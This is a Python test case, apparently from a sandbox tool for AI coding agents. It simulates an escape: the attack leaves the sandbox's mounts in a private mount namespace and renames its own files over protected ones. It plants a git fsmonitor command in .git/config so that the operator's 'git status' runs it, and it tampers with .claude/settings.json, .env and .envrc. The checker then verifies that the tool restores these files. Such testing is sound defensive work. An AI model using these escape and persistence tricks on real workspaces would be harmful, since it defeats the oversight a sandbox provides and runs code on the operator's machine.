"""Leaves the mounts of protect behind in a mount namespace of its own and renames files of its own
over protected ones.

What is reached through a descriptor is no mount point in that namespace once the old root is gone
from it.

layer: sweep
control: without a sandbox they stay, and the operator's `git status` runs the attacker's program
"""
import os

NEEDS = ["git"]
OPTIONS = ["--set", "process.nesting=true"]
ENGINES = ("native",)
ENGINES_WHY = "other engines do not let the command into the host's namespaces"


def scene(s):
    s.ws = s.cwd = s.t.git_repo()
    s.old = {".envrc": "good\n", ".claude/settings.json": "{}\n", ".env": "hidden\n"}
    s.t.write(s.ws, {**s.old, ".aiignore": "/.env\n"})
    os.chmod(os.path.join(s.ws, ".envrc"), 0o640)
    s.old[".git/config"] = s.t.read(s.ws, ".git/config")
    s.proof = os.path.join(s.outside, "proof")
    s.args = {"proof": s.proof, "ws": s.ws}


def attack(a):
    ws, git = (os.open(p, os.O_RDONLY | os.O_DIRECTORY) for p in (".", ".git"))
    claude = os.open(".claude", os.O_RDONLY | os.O_DIRECTORY)
    if inside():
        leave_mounts()

    def over(fd, name, text):
        f = os.open("evil", os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o644, dir_fd=fd)
        os.write(f, text.encode())
        os.close(f)
        os.rename("evil", name, src_dir_fd=fd, dst_dir_fd=fd)
    attempt(over, git, "config",
            f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {a['proof']}; false\n")
    attempt(over, claude, "settings.json", '{"evil": 1}\n')
    attempt(lambda: os.unlink(".envrc", dir_fd=ws))
    attempt(over, ws, ".env", "evil\n")


def escaped(s, r):
    if not s.control and "the mounts are left behind" not in r.out:
        s.t.fail("the attack never left the mounts behind, so nothing was shown")
    s.t.run("git", "status", cwd=s.ws)
    if s.control:
        return os.path.exists(s.proof)
    for name in (".git/config", ".claude/settings.json", ".env"):
        s.t.check(any(q.startswith(name + ": replaced") for q in r.report["quarantine"]),
                  f"{name} is told: {r.report['quarantine']}")
    s.t.check(any(q.startswith(".envrc: ") and "restored" in q for q in r.report["quarantine"]),
              ".envrc is told")
    s.t.equal(os.stat(os.path.join(s.ws, ".envrc")).st_mode & 0o777, 0o640)
    return os.path.exists(s.proof) or any(s.t.read(s.ws, n) != text for n, text in s.old.items())
